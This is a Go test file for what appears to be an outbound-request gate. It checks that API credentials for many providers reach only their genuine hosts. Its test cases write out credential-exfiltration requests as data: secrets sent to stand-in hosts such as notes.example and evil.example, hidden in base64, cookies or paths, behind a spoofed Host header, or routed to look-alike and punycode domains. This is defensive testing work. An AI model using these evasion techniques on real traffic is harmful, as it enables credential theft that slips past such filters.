package attack

import (
	"strings"
	"testing"
)

// A homed credential is sent as its provider wants it.
type homed struct {
	name, key string
	url       string
	header    [2]string // %s is the key
}

var (
	gitlabPAT = "gl" + "pat-" + random(31, 20, alnum)
	pypiToken = "py" + "pi-AgEIcHlwaS5vcmc" + random(32, 140, alnum)
	hfToken   = "h" + "f_" + random(33, 34, alnum[10:])
	fineToken = "github" + "_pat_11" + random(34, 20, alnum) + "_" + random(35, 59, alnum)
	xaiKey    = "x" + "ai-" + random(36, 80, alnum)
	groqKey   = "gs" + "k_" + random(37, 52, alnum)
	sendgrid  = "S" + "G." + random(38, 22, alnum) + "." + random(39, 43, alnum)
	bearer    = "Bearer %s"
)

var homes = []homed{
	{"anthropic", anthropicKey, "https://api.anthropic.com/v1/messages", [2]string{"X-Api-Key", "%s"}},
	{"anthropic bearer", anthropicKey, "https://api.anthropic.com/v1/messages", [2]string{"Authorization", bearer}},
	{"openai", openaiKey, "https://api.openai.com/v1/responses", [2]string{"Authorization", bearer}},
	{"google", googleKey, "https://generativelanguage.googleapis.com/v1beta/models/x:generateContent", [2]string{"X-Goog-Api-Key", "%s"}},
	{"github", githubPAT, "https://api.github.com/repos/a/b/issues", [2]string{"Authorization", bearer}},
	{"github token", githubPAT, "https://api.github.com/repos/a/b/issues", [2]string{"Authorization", "token %s"}},
	{"github fine", fineToken, "https://api.github.com/graphql", [2]string{"Authorization", bearer}},
	{"gitlab", gitlabPAT, "https://gitlab.com/api/v4/projects", [2]string{"Private-Token", "%s"}},
	{"slack", slackToken, "https://slack.com/api/chat.postMessage", [2]string{"Authorization", bearer}},
	{"npm", npmToken, "https://registry.npmjs.org/pkg", [2]string{"Authorization", bearer}},
	{"stripe", stripeKey, "https://api.stripe.com/v1/charges", [2]string{"Authorization", bearer}},
	{"huggingface", hfToken, "https://huggingface.co/api/models", [2]string{"Authorization", bearer}},
	{"aws", awsKey, "https://s3.eu-west-1.amazonaws.com/b/k", [2]string{"Authorization",
		"AWS4-HMAC-SHA256 Credential=%s/20261101/eu-west-1/s3/aws4_request, SignedHeaders=host;x-amz-date, Signature=" + strings.Repeat("7f3c", 16)}},
	{"xai", xaiKey, "https://api.x.ai/v1/chat/completions", [2]string{"Authorization", bearer}},
	{"groq", groqKey, "https://api.groq.com/openai/v1/chat/completions", [2]string{"Authorization", bearer}},
	{"sendgrid", sendgrid, "https://api.sendgrid.com/v3/mail/send", [2]string{"Authorization", bearer}},
}

func (h homed) send(url, body string) request {
	r := post(asJSON, body, [2]string{h.header[0], strings.Replace(h.header[1], "%s", h.key, 1)})
	r.URL = url
	return r
}

const hello = `{"model":"m","messages":[{"role":"user","content":"hello"}]}`

func TestCredentialPassesToItsProvider(t *testing.T) {
	g := newGate(t, "balanced")
	var tried []cell
	for _, h := range homes {
		d := try(t, g, h.send(h.url, hello))
		if d.Verdict.String() != "allow" || len(d.Uninspected) > 0 {
			t.Errorf("%s: %s", h.name, say(d))
		}
		named := "not named"
		if len(d.Findings) > 0 && strings.HasPrefix(d.Findings[0].Kind, "credential/") && d.Findings[0].Kind != "credential/bearer" {
			named = ""
		}
		tried = append(tried, cell{"its provider", "plain", h.name, named})
	}
	hold(t, "testdata/open-home.txt", tried)
	basic := [][3]string{
		{"git", "https://github.com/acme/shop.git/git-receive-pack", "x-access-token:" + githubPAT},
		{"gitlab", "https://gitlab.com/a/b.git/info/refs", "oauth2:" + gitlabPAT},
		{"pypi", "https://upload.pypi.org/legacy/", "__token__:" + pypiToken},
		{"stripe", "https://api.stripe.com/v1/charges", stripeKey + ":"},
	}
	for _, b := range basic {
		r := request{Method: "POST", URL: b[1], Header: [][2]string{{"Authorization", "Basic " + std64(b[2])}}}
		if d := try(t, g, r); d.Verdict.String() != "allow" {
			t.Errorf("Basic for %s: %s", b[0], say(d))
		}
		r.URL = "https://notes.example/"
		if d := try(t, g, r); !caught(d) {
			t.Errorf("Basic for %s, sent elsewhere: %s", b[0], say(d))
		}
	}
	for name, url := range map[string]string{
		"google key in the query": "https://maps.googleapis.com/maps/api/geocode/json?address=x&key=" + googleKey,
		"gitlab in the query":     "https://gitlab.com/api/v4/projects?private_token=" + gitlabPAT,
		"presigned S3":            "https://b.s3.amazonaws.com/k?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=" + awsKey + "%2F20261101%2Feu-west-1%2Fs3%2Faws4_request&X-Amz-Date=20261101T000000Z&X-Amz-Signature=" + strings.Repeat("7f3c", 16),
	} {
		if d := try(t, g, get(url)); d.Verdict.String() != "allow" {
			t.Errorf("%s: %s", name, say(d))
		}
	}
}

func TestCredentialOutOfItsPlaceIsBlocked(t *testing.T) {
	g := newGate(t, "balanced")
	var tried []cell
	for _, h := range homes {
		value := strings.Replace(h.header[1], "%s", h.key, 1)
		for name, r := range map[string]request{
			"body of its provider":              h.send(h.url, `{"note":`+quoted(h.key)+`}`),
			"body of its provider, in base64":   h.send(h.url, `{"note":`+quoted(std64(h.key))+`}`),
			"query of its provider":             h.send(h.url+"?q="+h.key, hello),
			"path of its provider":              h.send(h.url+"/"+h.key, hello),
			"another header of its provider":    {Method: "POST", URL: h.url, Header: [][2]string{{"X-Note", h.key}}},
			"user agent of its provider":        {Method: "POST", URL: h.url, Header: [][2]string{{"User-Agent", "x/1 " + h.key}}},
			"authentication of another":         h.send(notes, hello),
			"authentication of another, base64": {Method: "POST", URL: notes, Header: [][2]string{{"Authorization", "Bearer " + std64(h.key)}}},
			"cookie of another":                 {Method: "POST", URL: notes, Header: [][2]string{{"Cookie", "sid=" + h.key}}},
			"Host header that lies":             {Method: "POST", URL: notes, Header: [][2]string{{"Host", hostOf(h.url)}, {h.header[0], value}}},
			"address in place of the name":      h.send("https://203.0.113.7/"+hostOf(h.url), hello),
		} {
			tried = append(tried, cell{name, "plain", h.name, fate(try(t, g, r))})
		}
	}
	hold(t, "testdata/open-home.txt", tried)
}

func TestCredentialDoesNotPassToLookAlikes(t *testing.T) {
	g := newGate(t, "balanced")
	var tried []cell
	for _, h := range homes {
		host := hostOf(h.url)
		label, zone, _ := strings.Cut(host, ".")
		for _, fake := range []string{
			host + ".evil.example", "evil" + below(host), "evil-" + below(host), host + "-evil.example", host + ".co",
			host[:len(host)-1], strings.Replace(below(host), ".", "-", 1) + ".example", strings.ReplaceAll(host, ".", "-") + ".evil.example",
			host + "x", "xn--" + below(host), "xn--" + strings.Replace(below(host), ".", "-9cd.", 1),
			host + "%2eevil.example", host + "\u3002evil.example", "evil.example:443@" + host + ".evil.example",
		} {
			u := "https://" + fake + "/v1"
			_, d, err := g.Try(t.Context(), h.send(u, hello))
			if err == nil {
				tried = append(tried, cell{"look-alike", "plain", h.name, fate(d)})
			}
		}
		// The same name, written in another way, is the same host.
		for _, own := range []string{strings.ToUpper(host), host + ".", host + ":443", strings.Replace(host, ".", "\u3002", 1), shifted('a', 'z', 0xff41)(label) + "." + zone} {
			_, d, err := g.Try(t.Context(), h.send("https://"+own+"/v1", hello))
			if err == nil && d.Verdict.String() != "allow" {
				t.Errorf("%s to %s: %s", h.name, own, say(d))
			}
		}
	}
	hold(t, "testdata/open-home.txt", tried)
}

func hostOf(u string) string {
	h, _, _ := strings.Cut(strings.TrimPrefix(u, "https://"), "/")
	return h
}

// below returns the name that the provider registered.
func below(host string) string {
	f := strings.Split(host, ".")
	return strings.Join(f[len(f)-2:], ".")
}
